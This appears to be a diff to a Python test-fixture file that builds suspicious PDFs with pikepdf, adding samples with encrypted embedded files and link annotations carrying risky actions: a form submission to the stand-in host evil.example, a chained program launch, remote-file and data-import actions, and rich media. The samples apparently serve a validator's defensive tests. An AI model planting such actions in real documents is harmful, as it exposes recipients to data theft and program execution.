@@ -132,6 +132,17 @@ def attach(pdf: Pdf, name: str, content: bytes, relationship: str = "/Unspecifie
     pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String(name), file])))
 
 
+def with_locked_files() -> bytes:
+    """A PDF that asks for a password, for the files inside alone (ISO 32000-1 7.6.5)."""
+    pdf = page()
+    attach(pdf, "factur-x.xml", bytes(range(256)))
+    method = b"<</StdCF<</CFM/AESV2/AuthEvent/EFOpen/Length 16>>>>/StmF/Identity/StrF/Identity/EFF/StdCF"
+    locked = b"/Encrypt<</Filter/Standard/V 4/R 4/Length 128/P -4/CF" + method
+    locked += b"/O<%s>/U<%s>>>" % (b"ab" * 32, b"cd" * 32)
+    plain = written(pdf, object_stream_mode=pikepdf.ObjectStreamMode.disable)
+    return plain.replace(b"trailer <<", b"trailer <<" + locked)
+
+
 def in_lzw(content: bytes) -> bytes:
     """LZW (ISO 32000-1 7.4.4) of up to 250 bytes, none of them packed."""
     bits = "".join(f"{code:09b}" for code in (256, *content, 257))
@@ -147,6 +158,20 @@ def lying_in_wait() -> Mapping[str, bytes]:
     link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 90, 90]), Border=Array([0, 0, 0]))
     link.A = Dictionary(Type=Name.Action, S=Name.Launch, F=String("calc.exe"))
     made["launch"].pages[0].obj.Annots = Array([made["launch"].make_indirect(link)])
+    actions = {
+        "remote": Dictionary(S=Name.GoToR, F=String("other.pdf"), D=Array([0, Name.Fit])),
+        "submit": Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("http://evil.example/"))),
+        "import": Dictionary(S=Name.ImportData, F=String("data.fdf")),
+        "next": Dictionary(S=Name.URI, URI=String("http://a.example/"), Next=Dictionary(S=Name.Launch, F=String("x"))),
+    }
+    for name, action in actions.items():
+        made[name] = page()
+        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 90, 90]), Border=Array([0, 0, 0]))
+        link.A = action
+        made[name].pages[0].obj.Annots = Array([made[name].make_indirect(link)])
+    made["rich media"] = page()
+    media = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 90, 90]))
+    made["rich media"].pages[0].obj.Annots = Array([made["rich media"].make_indirect(media)])
     made["portfolio"] = page()
     attach(made["portfolio"], "inner.pdf", pdf_a())
     made["portfolio"].Root.Collection = Dictionary(Type=Name.Collection, View=Name.D)
